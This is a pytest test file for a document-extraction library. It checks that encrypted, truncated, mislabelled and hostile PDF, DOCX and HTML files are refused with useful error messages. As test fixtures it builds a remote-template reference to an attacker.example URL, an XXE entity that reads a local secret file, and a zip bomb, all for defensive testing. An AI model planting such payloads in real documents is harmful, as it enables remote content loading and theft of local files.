"""Hostile files: each is refused with one ExtractionError whose reason names the cause and the fix."""

from __future__ import annotations

import io
import zipfile

import makedocs
import pytest

from parisqa.corpus.formats import extract
from parisqa.errors import CorpusError, ExtractionError


def _rewrite_docx(extra: dict[str, bytes] | None = None, rels_patch: bytes | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(makedocs.docx())) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info)
            if rels_patch and info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", rels_patch + b"</Relationships>")
            out.writestr(info, data)
        for name, data in (extra or {}).items():
            out.writestr(name, data)
    return buf.getvalue()


def _cases() -> list[tuple[str, bytes, str]]:
    pdf = makedocs.pdf(2)
    docx = makedocs.docx()
    template = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    )
    return [
        ("encrypted.pdf", makedocs.pdf(2, encrypt=True), "encrypted; decrypt it first"),
        ("noise.pdf", makedocs.noise_pdf(), "is below the floor"),
        ("half.pdf", pdf[: len(pdf) // 2], "damaged or truncated PDF"),
        ("head.pdf", pdf[:200], "damaged or truncated PDF"),
        ("half.docx", docx[: len(docx) // 2], "damaged or not a Word document"),
        ("bomb.docx", _rewrite_docx({"word/media/big.bin": b"\0" * 30_000_000}), "zip bomb?"),
        (
            "template.docx",
            _rewrite_docx(rels_patch=template),
            "external reference (attachedTemplate -> http://attacker",
        ),
        ("page.pdf", makedocs.html(), "the content is HTML, not PDF; rename it to .html"),
        ("notes.docx", b"just some notes\n", "the content is not DOCX"),
        ("report.html", pdf, "the file is PDF, not HTML"),
        ("report.docx", pdf, "the content is PDF, not DOCX; rename it to .pdf"),
        ("empty.pdf", b"", "the file is empty"),
        ("scripts.html", b"<html><head><script>var a = 1;</script></head><body></body></html>", "no main text"),
        ("notes.txt", b"text", ".txt is not a converted format"),
    ]


@pytest.mark.parametrize("name,data,reason", _cases(), ids=lambda v: v if isinstance(v, str) and "." in v else "")
def test_hostile_file_is_refused_with_its_reason(name: str, data: bytes, reason: str):
    with pytest.raises(ExtractionError) as caught:
        extract(f"corpus/{name}", data)
    err = caught.value
    assert isinstance(err, CorpusError)
    assert reason in err.reason
    assert str(err).startswith(f"corpus/{name}: ")
    assert "\n" not in str(err)


def test_docx_with_an_external_hyperlink_is_fine():
    link = (
        b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'hyperlink" Target="https://example.org/" TargetMode="External"/>'
    )
    ex = extract("links.docx", _rewrite_docx(rels_patch=link))
    assert makedocs.PAGE2_SENTENCE in ex.text


def test_pdf_with_only_an_owner_password_reads():
    from fpdf import FPDF

    doc = FPDF()
    doc.set_encryption(owner_password="owner")  # no user password: any reader opens it
    doc.add_page()
    doc.set_font("Helvetica", size=11)
    doc.cell(0, 10, "Readable although protected.")
    ex = extract("owner.pdf", bytes(doc.output()))
    assert ex.text == "Readable although protected."


def test_docx_xml_entities_are_never_resolved(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-VALUE")
    with zipfile.ZipFile(io.BytesIO(makedocs.docx())) as src:
        body = src.read("word/document.xml")
    doctype = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{secret.as_uri()}"><!ENTITY lol "lol">]>'.encode()
    body = body.replace(b"?>", b"?>" + doctype, 1).replace(b"Main ports:", b"Main ports: &xxe; &lol;", 1)
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(makedocs.docx())) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            out.writestr(info, body if info.filename == "word/document.xml" else src.read(info))
    try:
        ex = extract("entities.docx", buf.getvalue())
    except ExtractionError as exc:
        assert "TOPSECRET" not in str(exc)
        return
    assert "TOPSECRET" not in ex.text


def _damaged_member(how: str) -> bytes:
    """The test DOCX with its document relationships part damaged inside the zip (found by fuzzing)."""
    data = bytearray(makedocs.docx())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/_rels/document.xml.rels")
    if how == "version":  # "version needed to extract" of its central directory entry: zipfile refuses it
        entry = data.find(b"PK\x01\x02")
        while entry >= 0:
            name_len = int.from_bytes(data[entry + 28 : entry + 30], "little")
            if data[entry + 46 : entry + 46 + name_len] == info.filename.encode():
                data[entry + 6 : entry + 8] = (237).to_bytes(2, "little")
                break
            entry = data.find(b"PK\x01\x02", entry + 4)
    else:  # garble the deflated bytes: zlib fails while reading
        header = info.header_offset
        start = header + 30 + int.from_bytes(data[header + 26 : header + 28], "little")
        start += int.from_bytes(data[header + 28 : header + 30], "little")
        data[start + 2 : start + 12] = b"\xff" * 10
    return bytes(data)


@pytest.mark.parametrize("how", ["version", "deflate"])
def test_docx_with_a_damaged_zip_member(how: str):
    with pytest.raises(ExtractionError, match="damaged"):
        extract("damaged.docx", _damaged_member(how))
